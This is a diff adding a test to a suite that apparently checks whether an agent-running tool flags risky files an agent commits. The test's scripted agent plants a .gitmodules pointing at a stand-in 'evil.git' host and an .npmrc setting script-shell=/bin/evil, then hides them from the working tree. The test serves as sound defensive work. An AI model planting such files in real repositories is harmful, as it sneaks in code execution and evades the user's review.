@@ -109,6 +109,27 @@ for (const backend of ['native', 'docker'] as const) {
       assert.ok(fsckClean());
     });
 
+    test("(review, round 28e) a .gitmodules committed, then removed from the tree and the index (git submodule reads it from HEAD), and, unlisted, an .npmrc committed without ever being in the tree: the commits come back, the files named with the command to review them; control: after a git reset, git submodule init registers the agent's URL", async () => {
+      const agent = [
+        "printf '[submodule \"lib\"]\\n\\tpath = lib\\n\\turl = git://127.0.0.1:9/evil.git\\n' > .gitmodules",
+        'git add .gitmodules && git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),lib',
+        "git update-index --add --cacheinfo 100644,$(printf 'script-shell=/bin/evil\\n' | git hash-object -w --stdin),.npmrc",
+        "git commit -qm 'agent: submodule' && rm .gitmodules && git rm -q --cached .gitmodules && echo done",
+      ].join(' && ');
+      const res = await run(agent);
+      assert.equal(res.code, 0, res.stderr);
+      assert.equal(res.stdout, 'done\n');
+      const line = res.stderr.split('\n').find((l) => l.includes("the agent's commits on refs/heads/main change files your tools run or obey")) ?? '';
+      assert.match(line, /\(\.gitmodules, \.npmrc\): the run kept them as they were in your tree, but git puts the commits' version there on a checkout, reset, restore or stash of them, and git submodule reads \.gitmodules from HEAD; review them \(git diff [0-9a-f]{40} [0-9a-f]{40} -- <file>\) before you do/, res.stderr);
+      assert.equal(r.git(['log', '-1', '--format=%s', 'main']).trim(), 'agent: submodule', "the agent's commit came in");
+      // The control: after your git reset (the index made HEAD's), git submodule init takes the agent's URL.
+      r.git(['reset', '-q']);
+      spawnSync('git', ['submodule', 'init'], { cwd: r.root, env: r.env, encoding: 'utf8' });
+      assert.match(spawnSync('git', ['config', '--get', 'submodule.lib.url'], { cwd: r.root, env: r.env, encoding: 'utf8' }).stdout, /127\.0\.0\.1:9\/evil\.git/);
+      r.git(['config', '--remove-section', 'submodule.lib']);
+      r.git(['reset', '-q', '--hard', 'main~1']);
+    });
+
     test('a commit whose subject is 8 MiB: the list of what came in cuts it to 100 columns (found in review: a 560 MB subject ended stashbase before its end-of-run checks); control: git log prints it whole', async () => {
       const commit = "head -c 8388608 /dev/zero | tr '\\0' a > ../subject.txt && echo s >> s.txt && git add s.txt && git commit -q -F ../subject.txt && rm ../subject.txt && echo committed";
       const res = await run(commit.replaceAll('../subject.txt', '.subject.txt'));
